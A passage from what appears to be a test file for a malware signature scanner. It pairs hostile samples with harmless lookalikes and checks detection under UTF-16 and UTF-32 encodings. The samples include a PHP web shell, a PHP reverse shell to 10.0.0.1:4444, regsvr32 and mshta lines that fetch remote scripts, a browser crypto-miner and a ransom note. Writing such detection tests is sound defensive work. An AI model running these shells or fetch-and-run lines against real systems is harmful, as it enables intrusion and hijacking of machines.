    "const { exec } = require('child_process')\nexec('git status', (error, out) => console.log(out))\nconst m = /x/.exec(req.query.name)",
  ],
  [
    JS,
    "const net = require('net')\nconst client = net.connect(80, 'example.com')\nprocess.stdin.pipe(client)\nclient.pipe(process.stdout)",
  ],
  [JS, 'eval(String.fromCharCode(97,98,99))'],
  [
    JS,
    'webpackJsonp([1],{0:function(e,t,n){eval("module.exports = 1;\\n//# sourceURL=webpack:///./a.js")}})',
  ],
  [
    BAT,
    `@echo off\n@power¦shell -NoProfile -ExecutionPolicy Bypass -Command "i¦ex ((New-Object System.Net.WebClient).Download¦String('https://chocolatey.org/install.ps1'))"\nchoco install nodejs`,
  ],
  [
    PS,
    "Set-ExecutionPolicy Bypass -Scope Process -Force\nInvoke-WebRequest -Uri https://nodejs.org/dist/node.msi -OutFile node.msi\nStart-Process msiexec.exe -ArgumentList '/i node.msi /qn' -Wait",
  ],
  [PS, "$bytes = [Convert]::FromBase64String($env:CERT)\n[IO.File]::WriteAllBytes('cert.pfx', $bytes)"],
  [
    MARKDOWN,
    '# LOLBAS\n\n`regsvr¦32 /s /n /u /i:http://10.0.0.1/x.sct scrobj.dll`\n`msh¦ta http://10.0.0.1/x.hta`\n',
  ],
  [
    BAT,
    '@echo off\ncertutil -hashfile setup.exe SHA256\nrundll32 user32.dll,LockWorkStation\nregsvr32 /s control.ocx',
  ],
  [VBS, 'Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe readme.txt"\nWScript.Echo "done"'],
  [VBS, 'Execute "x = 1"\nMsgBox Chr(34) & "quoted" & Chr(34)'],
  ['text/x-vb', 'Sub Auto_Open()\n  MsgBox "Welcome"\nEnd Sub'],
  [
    'application/json',
    '{"name": "pool", "pools": [{"url": "db.example.com:5432", "user": "app"}], "donate-level": 0}',
  ],
  [MARKDOWN, `# Mining\n\nRun \`xmrig -o strat¦um+tcp://pool.test:3333 -u ${WALLET}\`.\n`],
  [
    HTML,
    '<p>CoinHive was a miner for the browser. It was started with <code>new CoinHive.Anonymous(key)</code>.</p>',
  ],
  [JS, '// A hash for Monero: cryptonight\nexport function cryptonight(data) { return hash(data) }'],
  [
    TEXT,
    'Ransomware notes say that your files have been encrypted and ask for bitcoin within 72 hours. Keep backups; do not pay. The private key is with the attacker.',
  ],
  [
    TEXT,
    'All your data is encrypted at rest. Your files are encrypted with a key per file; the decryption key stays on your device. Guarantee: do not delete the key. Contact privacy@proton.me.',
  ],
  [TEXT, ''],
]

/** Of `shells-and-pages.yar`, whose rules overlap with others: what each says, what it hits, and what looks like that. */
const pages: readonly (readonly [reason: RegExp, type: string, hostile: string, harmless: string])[] = [
  [
    /calls a function that a request names/,
    PHP,
    '<?php $f = $_G¦ET["f"]; echo $f($_PO¦ST["a"]);',
    '<?php $f = $_GET["f"]; echo htmlspecialchars($f, $_POST["a"]);',
  ],
  [
    /PHP code connects a shell/,
    PHP,
    '<?php $s = fsock¦open("10.0.0.1", 4444); $p = proc_¦open("/bin/bash -i", [$s, $s, $s], $pipes);',
    '<?php $s = fsockopen("smtp.example.com", 25); $p = proc_open("/usr/sbin/sendmail -t", $spec, $pipes);',
  ],
  [
    /JavaScript code runs a command/,
    JS,
    "createServer((request) => { const cmd = url.search¦Params.get('cmd'); require('child_¦process').execSync(cmd) })",
    "createServer((request) => { const name = url.searchParams.get('name'); require('child_process').execSync('date') })",
  ],
  [
    /mines crypto money in the browser/,
    HTML,
    '<script src="https://www.coin¦imp.com/a.js"></script><script>new Coin¦Imp.User("key", "a").start()</script>',
    '<script src="https://www.coinimp.com/docs.js"></script><p>Call <code>start()</code> of the client.</p>',
  ],
  [
    /HTML application that starts a program/,
    HTML,
    '<hta:appli¦cation><script>new ActiveX¦Object("Shell.Application").Shell¦Execute("calc")</script>',
    '<p>An <code>&lt;hta:application&gt;</code> may say CreateObject("WScript.Shell").Run.</p>',
  ],
  [
    /page is a ransom note/,
    HTML,
    '<h1>Your important files have been enc¦rypted</h1>Send 0.5 BTC to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq for the private key. Use the Tor Browser.',
    '<h1>What ransomware says</h1>That your files have been encrypted, and that the private key costs bitcoins. Do not pay.',
  ],
]

let signatures: SignatureInspector
before(async () => {
  signatures = await createSignatureInspector([BUILT_IN_RULES])
})
after(() => signatures.close())

describe('refuses', () => {
  for (const [type, text] of hostile)
    test(nameOf(text), async () => assert.equal((await scan(type, text)).verdict, 'infected'))
})

describe('refuses in UTF-16 without a byte order mark', () => {
  for (const [type, text] of hostile.filter(([type]) => !type.startsWith('image/'))) {
    test(nameOf(text), async () => {
      const littleEndian = Buffer.from(text.replaceAll('¦', ''), 'utf16le')
      const bigEndian = Buffer.from(littleEndian).swap16()
      for (const bytes of [littleEndian, bigEndian])
        assert.equal((await scanBytes(type, bytes)).verdict, 'infected')
    })
  }
})

test('refuses a shell that stands as it is behind a beginning in UTF-16, or behind its mark', async () => {
  const shell = Buffer.from('\n<?php sys¦tem($_G¦ET["c"]);'.replaceAll('¦', ''))
  for (const start of [
    Buffer.from('<?php // a text\n'.repeat(200), 'utf16le'),
    Buffer.from('\ufeff', 'utf16le'),
  ])
    assert.equal((await scanBytes(PHP, Buffer.concat([start, shell]))).verdict, 'infected')
})

describe('refuses a shell behind 400 Chinese characters', () => {
  const text = `<?php /* ${'漢'.repeat(400)} */ sys¦tem($_G¦ET["c"]);`.replaceAll('¦', '')
  const units = (width: 2 | 4, start: string) => {
    const characters = [...(start + text)].map((character) => character.codePointAt(0) ?? 0)
    const bytes = Buffer.alloc(characters.length * width)
    for (const [index, character] of characters.entries()) bytes.writeUIntLE(character, index * width, width)
    return bytes
  }
  for (const width of [2, 4] as const) {
    for (const [mark, start] of [
      ['with', '\ufeff'],
      ['without', ''],
    ] as const) {
      test(`in UTF-${width * 8} ${mark} a byte order mark`, async () => {
        const littleEndian = units(width, start)
        const bigEndian = Buffer.from(littleEndian)
        if (width === 2) bigEndian.swap16()
        else bigEndian.swap32()
        for (const bytes of [littleEndian, bigEndian])
          assert.equal((await scanBytes(PHP, bytes)).verdict, 'infected')
      })
    }
  }
})

describe('keeps', () => {
  for (const [type, text] of harmless)
    test(nameOf(text), async () =>
      assert.deepEqual(await scan(type, text), { verdict: 'clean', findings: [] }),
    )
})

describe('shells-and-pages.yar', () => {
  for (const [reason, type, bad, good] of pages) {
    test(`${reason.source}: refuses one`, async () => {
      const inspection = await scan(type, bad)
      assert.equal(inspection.verdict, 'infected')
      assert.match('reason' in inspection ? inspection.reason : '', reason)
    })
    test(`${reason.source}: keeps what looks like one`, async () => {
      assert.deepEqual(await scan(type, good), { verdict: 'clean', findings: [] })
    })
  }

  test('has such a row for every rule', () => {
    const rules = readFileSync(join(BUILT_IN_RULES, 'shells-and-pages.yar'), 'utf8')
    const descriptions = [...rules.matchAll(/description = "(.*)"/g)].map(([, text = '']) => text)
    assert.equal(descriptions.length, pages.length)
    for (const text of descriptions)
      assert.ok(
        pages.some(([reason]) => reason.test(text)),
        text,
      )
  })
})

function nameOf(text: string): string {
  return text
    .replaceAll('¦', ' ')
    .replaceAll(/[^\x20-\x7e]+/g, ' ')
    .slice(0, 60)
}

function scan(mediaType: string, cut: string): Promise<Inspection> {
  const encoding = mediaType.startsWith('image/') ? 'latin1' : 'utf8'
  return scanBytes(mediaType, Buffer.from(cut.replaceAll('¦', ''), encoding))
}

async function scanBytes(mediaType: string, bytes: Buffer): Promise<Inspection> {
  const source = {
    size: bytes.length,
    read: (offset: number, length: number) => bytes.subarray(offset, offset + length),
  }
  const kind = mediaType.startsWith('image/') ? 'image' : mediaType === MARKDOWN ? 'document' : 'code'
  const budget = new Budget({ expandedBytes: 1, entries: 1, depth: 1, timeMs: 60_000 }, Date.now)
  const inspectInside = async (): Promise<Inspection> => assert.fail('nothing is inside')
  return signatures.inspect({ name: 'sample', mediaType, kind, source, depth: 0 }, { budget, inspectInside })
}
